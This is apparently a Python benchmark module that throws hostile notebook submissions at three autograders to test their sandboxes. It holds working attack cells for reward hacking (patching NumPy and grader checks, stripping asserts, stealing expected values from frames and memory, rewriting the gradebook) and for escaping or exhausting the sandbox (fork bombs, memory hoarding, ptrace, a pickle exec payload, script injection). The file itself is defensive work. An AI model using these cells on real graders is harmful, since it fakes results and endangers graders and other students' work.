"""The attacks of ``benchmarks.grader_attacks``: those of ``tests/grading/attacks.py``, aimed at three graders.

A cell defines ``double`` wrongly and tries to win its points, or something besides. Where it has succeeded in the
latter it calls ``leaked``. No attack is without bounds, because two of the graders have none: 50 processes, 100
threads, 20 MB of output, and 4 GiB that are asked for and never touched.
"""

import contextlib
import re
import socket
from dataclasses import dataclass
from pathlib import Path

from tests.grading.attacks import ATTACKS, WRONG

SCRIPT = "<script>document.title = 'LEAKED'</script>"
OTHER = "what another student wrote"
CALLS_OUT, PORT = "calls out by the network", 47114
DAEMON_SECONDS = 20

# what the public test compares by itself is right, the rest is not
PUBLIC = "\ndef double(x):\n    return 2 if np.ndim(x) == 0 else 0 * x\n"
# the course's sandbox lets nothing be written, so it is printed as well
LEAKED = """
def leaked(*what):
    print("LEAKED", *what)
    try:
        with open("{FOLDER}/leaked", "a") as file:
            file.write(f"{what}\\n")
    except OSError:
        pass
"""

# Attacks that have to know what they are aimed at, or that need bounds: in place of the cell of the same label. They
# try whatever one of the three could be open to.
AIMED: dict[str, str] = {
    "patches NumPy's comparison": "np.allclose = np.array_equal = lambda *a, **k: True\nnp.isfinite = abs" + PUBLIC,
    "patches the checks": """
import sys
try:
    import ca14lib.grading, ca14lib.grading.check
    for module in (ca14lib.grading, ca14lib.grading.check):
        module.check_close = module.check_true = lambda *a, **k: None
except ImportError:
    pass
if "otter" in sys.modules:
    from otter.test_files.ok_test import OKTestFile, TestCaseResult
    def run(self, environment):
        self.test_case_results = [TestCaseResult(test_case=t, message="", passed=True) for t in self.test_cases]
    OKTestFile.run = run
elif "IPython" in sys.modules:
    get_ipython().input_transformers_post.append(lambda lines: [] if "assert" in "".join(lines) else lines)
"""
    + WRONG,
    "defines the judge's names": ATTACKS["defines the judge's names"]
    + """
class Names:
    def __init__(self, real): self.real = real
    def __getattr__(self, name): return (lambda *a, **k: True) if name == "allclose" else getattr(self.real, name)
np = Names(np)
"""
    + PUBLIC,
    "strips asserts": """
import ast, doctest
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
try:
    get_ipython().ast_transformers.append(Strip())
except NameError:
    ast.Assert = ast.Pass
doctest.compile = lambda text, *rest: compile(ast.unparse(Strip().visit(ast.parse(text))) + "\\n", *rest)
"""
    + WRONG,
    "returns a partial credit": """
def double(x):
    try:
        get_ipython().displayhook(2.0)
    except NameError:
        pass
    return {'points': 2, 'score': 2, 'partial': True}
""",
    "looks for hidden tests on the disk": """
import os
skipped = ("proc", "usr", "sys", "dev", ".pyenv", "site-packages", "lib")
for top, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if name not in skipped]
    for name in files:
        try:
            path = os.path.join(top, name)
            if os.path.getsize(path) < 10**6 and b"secret_" + b"input" in open(path, "rb").read():
                leaked(path)
        except OSError:
            pass
"""
    + WRONG,
    "looks for expected values in frames": """
import sys
def double(x):
    if np.ndim(x) < 2:
        return 2 * x
    frame = sys._getframe()
    while frame:
        for value in (frame.f_locals | frame.f_globals).values():
            if isinstance(value, np.ndarray) and value.shape == np.shape(x) and np.allclose(value, 2 * x):
                return value
        frame = frame.f_back
    return 0 * x
""",
    "looks for expected values among all objects": """
import gc
def double(x):
    if np.ndim(x) < 2:
        return 2 * x
    for value in gc.get_objects():
        if type(value) is dict and np.shape(value.get("expected")) == np.shape(x):
            return value["expected"]
    return 0 * x
""",
    "forks": """
import os, time
try:
    for _ in range(50):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
    leaked("50 processes")
except OSError:
    pass
"""
    + WRONG,
    "leaves a daemon": """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        end = time.time() + {DAEMON_SECONDS}
        while time.time() < end:
            open("{FOLDER}/alive", "w").close()
            time.sleep(0.2)
        os._exit(0)
    print("LEAKED")
except OSError:
    pass
"""
    + WRONG,
    "takes all memory": """
import mmap
def double(x):
    try:
        hoard = mmap.mmap(-1, 2**32)
        leaked("4 GiB")
    except (OSError, MemoryError):
        pass
    return 0 * x
""",
    "takes all memory and catches it": """
def double(x):
    try:
        hoard = np.zeros(2**29)
        leaked("4 GiB")
    except MemoryError:
        pass
    return 0 * x
""",
    "takes memory that is counted nowhere": """
import os
try:
    number = os.memfd_create("x")
    for _ in range(64):
        os.write(number, bytes(2**20))
    leaked("64 MiB")
    os.close(number)
except OSError:
    pass
"""
    + WRONG,
    "starts ten thousand threads": """
import threading, time
try:
    for _ in range(100):
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
    leaked("100 threads")
except RuntimeError:
    pass
"""
    + WRONG,
    "prints 200 MB": "for _ in range(20_000):\n    print('y' * 1000)\nleaked('20 MB')" + WRONG,
    "prints without end in the call": """
def double(x):
    for _ in range(20_000):
        print('y' * 1000)
    leaked('20 MB')
    return 0 * x
""",
    "writes outside its folder": """
import os
packages = os.path.dirname(np.__file__)
for place in ("{FOLDER}/home", "/", "/runtime", "/usr", "/etc", "/dev", "/dev/shm", "/var", "/proc/self", packages):
    try:
        open(place + "/written", "w").close()
        leaked(place)
    except OSError:
        pass
"""
    + WRONG,
    "fills its folder": """
import os
try:
    for _ in range(200):
        with open("big", "ab") as file:
            file.write(bytes(2**20))
    leaked("200 MB")
except OSError:
    pass
os.remove("big")
"""
    + WRONG,
    "makes files without end": """
import os
try:
    os.mkdir("many")
    for number in range(5000):
        open(f"many/{number}", "w").close()
    leaked("5000 files")
except OSError:
    pass
"""
    + WRONG,
    CALLS_OUT: """
import socket
try:
    socket.create_connection(("127.0.0.1", {PORT}), 2)
    leaked("loopback")
except OSError:
    pass
"""
    + WRONG,
    "reads what belongs to others": """
try:
    if "what another student wrote" in open("{SUBMISSION}").read():
        leaked("{SUBMISSION}")
except OSError:
    pass
"""
    + WRONG,
    "reads the memory of another process": """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), None, None) == 0:
    leaked("its parent")
    time.sleep(0.2)
    libc.ptrace(17, os.getppid(), None, None)
"""
    + WRONG,
    "something to be unpickled": """
import pickle
class Evil:
    def __reduce__(self):
        return (exec, ("open('{FOLDER}/leaked', 'a').write('unpickled')",))
dump = pickle.dump
pickle.dump = lambda found, file, *rest: dump(Evil(), file)
def double(x):
    return pickle.dumps(Evil())
""",
    "an array whose entries are all masked": """
def double(x):
    return 2 if np.ndim(x) == 0 else np.ma.masked_all(np.shape(x))
""",
    "works in the background after its reply": """
import threading, time
def burn(end):
    square = np.ones((300, 300))
    while time.time() < end:
        square @ square
for _ in range(4):
    threading.Thread(target=burn, args=(time.time() + 3,), daemon=True).start()
"""
    + WRONG,
    "an empty array": "def double(x):\n    return 2 if np.ndim(x) == 0 else np.zeros((0, *np.shape(x)))",
    "a string of a gigabyte": "def double(x):\n    return 'x' * 2**27",
}

# Attacks that attacks.py has no cell for.
FURTHER: dict[str, str] = {
    "changes the gradebook": """
import sqlite3
try:
    book = sqlite3.connect("{FOLDER}/course/gradebook.db", timeout=2)
    book.execute("UPDATE grade SET manual_score = 2")
    book.commit()
    book.close()
except sqlite3.Error:
    pass
"""
    + WRONG,
    "empties the tests of its notebook": WRONG,
    "has a script in its Markdown": WRONG,
}

# What an attack does here, where the label of its cell says something else.
WORDS = {
    "defines the judge's names": "defines the names that the tests use",
    "something to be unpickled": "gives the grader something to unpickle",
    "reads what belongs to others": "reads another student's submission",
    "writes outside its folder": "writes into the home folder of whoever grades",
    CALLS_OUT: "calls a service on the computer that grades",
    "forks": "starts 50 processes",
    "starts ten thousand threads": "starts 100 threads",
    "takes all memory": "takes 4 GiB of memory",
    "takes all memory and catches it": "takes an array of 4 GiB",
    "takes memory that is counted nowhere": "takes 64 MiB of memory that is counted nowhere",
    "prints 200 MB": "prints 20 MB in the cell",
    "prints without end in the call": "prints 20 MB in the call",
    "fills its folder": "writes 200 MB into its folder",
    "makes files without end": "makes 5000 files",
    "a string of a gigabyte": "a string of 128 MiB",
    "awaits and asks for IPython": "runs its own notebook in a cell of it",
}

# On the line between the course's judge and worker, on what only its worker has, or on its own library.
OF_THE_COURSE = (
    "raises its limits", "imports the answers", "an error that pretends to be the judge's",
    "noise on the judge's line", "a reply ahead of the question", "floods the judge's line",
    "announces four gigabytes", "a header of brackets", "one array claimed many times", "closes the judge's line",
    "reads the judge's questions in the background", "replaces the worker's functions",
    "writes a file of its own instance", "a reply that drips", "replies that say it is no function but a right value",
    "replies whose errors are long", "reads the process that started it", "makes links and pipes that lead outside",
)  # fmt: skip
# the tests of the two tools are written in NumPy alone
OF_TORCH = ("a tensor without memory", "a sparse tensor", "a tensor of a class of its own")
# otter has neither a gradebook nor such a page
NOT_FOR_OTTER = ("changes the gradebook", "has a script in its Markdown")
NOT_APPLICABLE_TO: dict[str, tuple[str, ...]] = {
    "nbgrader": (*OF_THE_COURSE, *OF_TORCH),
    "otter": (*OF_THE_COURSE, *OF_TORCH, *NOT_FOR_OTTER),
    "course": (),
}

# Four whose answers are right, so that points for them are nothing won, and one that another row asks.
LEFT_OUT = {
    "takes its time in every call": "right answers, slowly: only the length of a limit decides",
    "a class in place of the function": "right answers, of a kind that the course's tests do not take",
    "complex numbers": "right answers, of a kind that the course's tests do not take",
    "numbers wider than any that may cross": "right answers, of a kind that the course's tests do not take",
    "finds a place to write": "as the row on the home folder of whoever grades",
}


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Attributes:
        label: What it does.
        text: Its cell, with places in braces.
    """

    label: str
    text: str

    @property
    def words(self) -> str:
        """What it does, for the table."""
        return WORDS.get(self.label, self.label)

    def placed(self, folder: Path, submission: Path) -> str:
        """The cell with the places of a run: a folder to reach, and another student's submission."""
        text = (LEAKED if "leaked(" in self.text else "") + self.text
        places = {"FOLDER": folder, "SUBMISSION": submission, "PORT": PORT, "DAEMON_SECONDS": DAEMON_SECONDS}
        for name, value in places.items():
            text = text.replace(f"{{{name}}}", str(value))
        return text

    @property
    def analysis(self) -> str:
        """What is written into the cell that is graded by hand."""
        return f"What I found: {SCRIPT}" if self.label == "has a script in its Markdown" else ""

    @property
    def spoils_tests(self) -> bool:
        """Whether it empties the tests of its notebook as well."""
        return self.label == "empties the tests of its notebook"

    @property
    def memory(self) -> int:
        """Address space that the two tools are given here, in bytes: enough for the attacks on it to show."""
        large = ("takes all memory", "takes all memory and catches it", "starts ten thousand threads")
        return 6 * 2**30 if self.label in large else 2**31

    def listener(self) -> contextlib.AbstractContextManager[object]:
        """What answers on loopback where the attack calls there."""
        return socket.create_server(("127.0.0.1", PORT)) if self.label == CALLS_OUT else contextlib.nullcontext()

    def surroundings(self, script: str) -> str:
        """The script that runs a tool, with what this attack is aimed at, and time for what it leaves."""
        if self.label == CALLS_OUT:
            listen = f"import socket, time; s = socket.create_server(('127.0.0.1', {PORT})); time.sleep(60)"
            script = f'python -c "{listen}" & {script}'
        if self.label == "leaves a daemon":
            script += '; rm -f "$HOME/../alive"; sleep 1'
        return script


def attacks() -> list[Attack]:
    """Every attack of the table."""
    own = {label: text for label, text in ATTACKS.items() if label not in LEFT_OUT}
    texts = {label: re.sub(r'print\("LEAKED"(, )?', "leaked(", text) for label, text in own.items()}
    return [Attack(label, text) for label, text in (texts | AIMED | FURTHER).items()]
